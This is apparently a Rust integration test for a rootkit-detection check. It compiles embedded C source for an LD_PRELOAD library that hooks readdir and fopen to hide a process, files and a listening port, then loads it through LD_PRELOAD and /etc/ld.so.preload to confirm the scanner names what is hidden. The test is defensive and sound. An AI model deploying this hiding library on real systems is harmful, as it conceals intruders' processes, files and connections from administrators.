//! Live (issue 15, class 3): name what a preload rootkit hides. A hiding library (C source
//! written here, compiled with cc, with what it hides compiled in as real rootkits have it) drops
//! one pid and every name starting with `hy_secret` from `readdir`, and one local port from
//! `/proc/net/tcp*` read through `fopen`. A process preloads it (`LD_PRELOAD`), so
//! `rootkit.preload_hooks` finds it; `rootkit.preload_hidden` must then name the hidden pid with
//! its executable, the hidden port, and the hidden file beside the library — all critical — and
//! nothing it does not hide.

use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::sync::Arc;

use huoyan_checks::{run_checks, Context, Selection};
use huoyan_core::{ActionJournal, ProcFs, Root, Severity, Window};

const HIDER_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int hide_name(const char *name) {
    return strcmp(name, HIDE_PID) == 0 || strncmp(name, HIDE_PREFIX, strlen(HIDE_PREFIX)) == 0;
}

struct dirent *readdir(DIR *dir) {
    static struct dirent *(*real)(DIR *) = NULL;
    if (!real) real = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    do { e = real(dir); } while (e != NULL && hide_name(e->d_name));
    return e;
}

struct dirent64 *readdir64(DIR *dir) {
    static struct dirent64 *(*real)(DIR *) = NULL;
    if (!real) real = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    do { e = real(dir); } while (e != NULL && hide_name(e->d_name));
    return e;
}

static FILE *filtered(FILE *in) {
    char needle[16];
    snprintf(needle, sizeof needle, ":%s ", HIDE_PORT);
    size_t cap = 1 << 22, len = 0;
    char *buf = malloc(cap);
    char line[1024];
    int first = 1;
    while (buf && fgets(line, sizeof line, in)) {
        char *local = strchr(line, ':');
        int drop = !first && local && strstr(local + 1, needle) == strchr(local + 1, ':');
        first = 0;
        size_t n = strlen(line);
        if (!drop && len + n < cap) { memcpy(buf + len, line, n); len += n; }
    }
    fclose(in);
    return fmemopen(buf, len ? len : 1, "r");
}

static FILE *hook_fopen(const char *sym, const char *path, const char *mode) {
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, sym);
    FILE *f = real(path, mode);
    if (f && strncmp(path, "/proc/net/tcp", 13) == 0) return filtered(f);
    return f;
}

FILE *fopen(const char *path, const char *mode) { return hook_fopen("fopen", path, mode); }
FILE *fopen64(const char *path, const char *mode) { return hook_fopen("fopen64", path, mode); }
"#;

struct Kill(Vec<Child>);
impl Drop for Kill {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn build_hider(dir: &Path, pid: u32, port: u16) -> PathBuf {
    let src = dir.join("hider.c");
    std::fs::write(&src, HIDER_C).expect("write C source");
    let lib = dir.join("libhider.so");
    let ok = Command::new("cc")
        .args(["-shared", "-fPIC", "-O1"])
        .arg(format!("-DHIDE_PID=\"{pid}\""))
        .arg(format!("-DHIDE_PORT=\"{port:04X}\""))
        .arg("-DHIDE_PREFIX=\"hy_secret\"")
        .arg("-o")
        .arg(&lib)
        .arg(&src)
        .arg("-ldl")
        .status()
        .is_ok_and(|s| s.success());
    assert!(
        ok,
        "cc could not build the test library (install gcc, see .ci/packages/integrity.txt)"
    );
    lib
}

#[test]
fn what_a_preload_rootkit_hides_is_named() {
    let Some(_proc) = ProcFs::live() else {
        panic!("this test needs a live /proc");
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let secret = dir.path().join("hy_secret_payload");
    std::fs::write(&secret, "#!/bin/sh\n").expect("write");
    let target = Command::new("sleep").arg("300").spawn().expect("sleep");
    let target_pid = target.id();
    let mut guard = Kill(vec![target]);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let lib = build_hider(dir.path(), target_pid, port);
    let carrier = Command::new("sleep")
        .arg("300")
        .env("LD_PRELOAD", &lib)
        .spawn()
        .expect("sleep with preload");
    let carrier_pid = carrier.id();
    guard.0.push(carrier);
    std::thread::sleep(std::time::Duration::from_millis(300));

    let mut ctx = Context::new(Root::host(), Window::default());
    let journal = Arc::new(ActionJournal::in_memory());
    ctx.journal = Some(Arc::clone(&journal));
    let outcome = run_checks(
        &ctx,
        &Selection {
            only: vec!["rootkit.preload_hidden".into()],
            ..Selection::default()
        },
    );
    let lib_text = lib.display().to_string();
    // Other hiders may be loaded on a shared test machine: keep the findings of this one.
    let mine: Vec<_> = outcome
        .findings
        .iter()
        .filter(|f| f.evidence["preloaded_into_tool"] == lib_text.as_str())
        .collect();

    let process = mine
        .iter()
        .find(|f| f.evidence["kind"] == "process")
        .unwrap_or_else(|| panic!("hidden pid not named: {outcome:#?}"));
    assert_eq!(process.severity, Severity::Critical);
    assert_eq!(process.pids, vec![target_pid], "{process:#?}");
    assert!(process.summary.contains(&format!("pid {target_pid} ")));
    assert!(
        process.evidence["exe"]
            .as_str()
            .is_some_and(|e| e.ends_with("sleep")),
        "{process:#?}"
    );
    assert_eq!(
        process.evidence["cmdline"],
        serde_json::json!(["sleep", "300"])
    );

    let socket = mine
        .iter()
        .find(|f| f.evidence["kind"] == "socket")
        .unwrap_or_else(|| panic!("hidden port not named: {outcome:#?}"));
    assert_eq!(socket.severity, Severity::Critical);
    assert_eq!(socket.evidence["local_port"], port);
    assert!(socket.summary.contains(&format!("127.0.0.1:{port}")));
    assert!(socket.pids.contains(&std::process::id()), "{socket:#?}");

    let file = mine
        .iter()
        .find(|f| f.evidence["kind"] == "file")
        .unwrap_or_else(|| panic!("hidden file not named: {outcome:#?}"));
    assert_eq!(file.severity, Severity::Critical);
    assert_eq!(file.paths[0], secret.display().to_string());

    // Nothing it does not hide: one of each, and not the carrier, the library or its source.
    for f in &mine {
        eprintln!("{}", f.summary);
    }
    assert_eq!(mine.len(), 3, "{mine:#?}");
    assert!(!mine.iter().any(|f| f.pids.contains(&carrier_pid)));
    // Every host tool run is journaled, with the preload it ran under.
    let runs: Vec<_> = journal
        .entries()
        .into_iter()
        .filter(|e| e.action == "run" && e.target.contains(&lib_text))
        .collect();
    assert!(
        runs.iter().any(|e| e.target.contains("ls -1a /proc")),
        "{runs:#?}"
    );
    assert!(
        runs.iter().any(|e| e.target.contains("sed -n p")),
        "{runs:#?}"
    );
    drop(listener);
    drop(guard);
}

/// The same library through `/etc/ld.so.preload`, the way rootkits install themselves: the test
/// binary re-runs itself (`inner_global_view`) in a private mount namespace whose `/etc` is a
/// copy with an `ld.so.preload` naming the library, so the host's real /etc is never touched.
/// Needs root and unshare(1): skipped without them, but a failure under `CI`.
#[test]
fn a_global_preload_hider_is_compared_in_a_private_mount_namespace() {
    let ready = huoyan_testkit::is_root()
        && Command::new("unshare")
            .arg("--version")
            .stdout(std::process::Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
    if !ready {
        if std::env::var_os("CI").is_some() {
            panic!("CI runs as root with util-linux: this live test must run there");
        }
        eprintln!("skipped: needs root and unshare");
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let secret = dir.path().join("hy_secret_payload");
    std::fs::write(&secret, "#!/bin/sh\n").expect("write");
    let target = Command::new("sleep").arg("300").spawn().expect("sleep");
    let target_pid = target.id();
    let guard = Kill(vec![target]);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let lib = build_hider(dir.path(), target_pid, port);
    let etc = dir.path().join("etc");
    let copied = Command::new("cp")
        .arg("-a")
        .arg("/etc/.")
        .arg(&etc)
        .status()
        .is_ok_and(|s| s.success());
    assert!(copied, "copying /etc failed");
    std::fs::write(etc.join("ld.so.preload"), format!("{}\n", lib.display())).expect("write");
    let me = std::env::current_exe().expect("test binary");
    let status = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(
            "mount --bind \"$1\" /etc && exec \"$2\" --exact \
             preload_hidden_live::inner_global_view --ignored --nocapture --test-threads 1",
        )
        .arg("sh")
        .arg(&etc)
        .arg(&me)
        .env("HUOYAN_INNER_PID", target_pid.to_string())
        .env("HUOYAN_INNER_PORT", port.to_string())
        .env("HUOYAN_INNER_LIB", &lib)
        .env("HUOYAN_INNER_SECRET", &secret)
        .env("HUOYAN_INNER_OWNER", std::process::id().to_string())
        .status()
        .expect("run unshare");
    assert!(
        status.success(),
        "the view inside the mount namespace failed"
    );
    drop(listener);
    drop(guard);
}

/// Run by the test above inside its mount namespace; does nothing when run on its own.
#[test]
#[ignore = "run inside a private mount namespace by a_global_preload_hider_is_compared_…"]
fn inner_global_view() {
    let var = |k: &str| std::env::var(k).ok();
    let (Some(pid), Some(port), Some(lib), Some(secret), Some(owner)) = (
        var("HUOYAN_INNER_PID"),
        var("HUOYAN_INNER_PORT"),
        var("HUOYAN_INNER_LIB"),
        var("HUOYAN_INNER_SECRET"),
        var("HUOYAN_INNER_OWNER"),
    ) else {
        eprintln!("not inside the mount namespace: nothing to do");
        return;
    };
    let preload = std::fs::read_to_string("/etc/ld.so.preload").expect("the copied /etc");
    assert_eq!(preload.trim(), lib);
    let pid: u32 = pid.parse().expect("pid");
    let owner: u32 = owner.parse().expect("pid");
    let mut ctx = Context::new(Root::host(), Window::default());
    let journal = Arc::new(ActionJournal::in_memory());
    ctx.journal = Some(Arc::clone(&journal));
    let outcome = run_checks(
        &ctx,
        &Selection {
            only: vec!["rootkit.preload_hidden".into()],
            ..Selection::default()
        },
    );
    let mine: Vec<_> = outcome
        .findings
        .iter()
        .filter(|f| f.evidence["preloaded_into_tool"].is_null() && f.paths.contains(&lib))
        .collect();
    for f in &mine {
        eprintln!("{}", f.summary);
    }
    let kind = |k: &str| {
        mine.iter()
            .find(|f| f.evidence["kind"] == k)
            .unwrap_or_else(|| panic!("no hidden {k} named: {outcome:#?}"))
    };
    assert_eq!(kind("process").pids, vec![pid]);
    assert!(kind("process").summary.contains("/etc/ld.so.preload"));
    assert_eq!(
        kind("socket").evidence["local_port"].as_u64(),
        port.parse().ok()
    );
    assert!(kind("socket").pids.contains(&owner));
    assert_eq!(kind("file").paths[0], secret);
    assert!(mine.iter().all(|f| f.severity == Severity::Critical));
    assert_eq!(mine.len(), 3, "{mine:#?}");
    // No LD_PRELOAD was given to the tools: the loader took the library from /etc itself.
    assert!(journal
        .entries()
        .iter()
        .filter(|e| e.action == "run")
        .any(|e| e.target.contains("ls -1a /proc") && !e.target.contains("LD_PRELOAD")));
}
